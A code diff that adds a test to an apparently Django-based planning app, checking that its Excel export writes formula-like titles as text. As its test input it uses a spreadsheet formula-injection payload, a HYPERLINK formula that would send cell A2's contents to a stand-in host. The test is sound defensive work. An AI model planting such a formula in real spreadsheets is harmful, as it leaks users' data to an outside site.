@@ -237,6 +237,22 @@ def test_excel_export_holds_the_filtered_list(org, oppdrag, client_as):
     assert client_as("politikar").get(reverse("verksemdsplan:oppdrag_eksport")).status_code == 404
 
 
+def test_the_export_writes_a_formula_like_title_as_text_never_as_a_formula(oppdrag, client_as):
+    """A title typed as an Excel formula would run when the workbook is opened (issue 18)."""
+    import io
+
+    from openpyxl import load_workbook
+
+    oppdrag.tittel = '=HYPERLINK("https://example.org/?"&A2,"Klikk")'
+    oppdrag.status_kommentar = "+47 999 99 999"
+    oppdrag.save()
+    response = client_as("medarbeidar").get(reverse("verksemdsplan:oppdrag_eksport"))
+    ark = load_workbook(io.BytesIO(response.content)).active
+    rad = next(r for r in ark.iter_rows(min_row=2) if r[0].value == oppdrag.tittel)
+    assert rad[0].data_type == "s"  # "f" would be a formula
+    assert rad[6].value == "+47 999 99 999" and rad[6].data_type == "s"
+
+
 def test_filters_by_theme_goal_and_owner_and_the_goal_page_reads_down_the_thread(org, oppdrag, client_as):
     from plans.models import Maal, Plan, Plantype
     from verksemdsplan.models import Tema
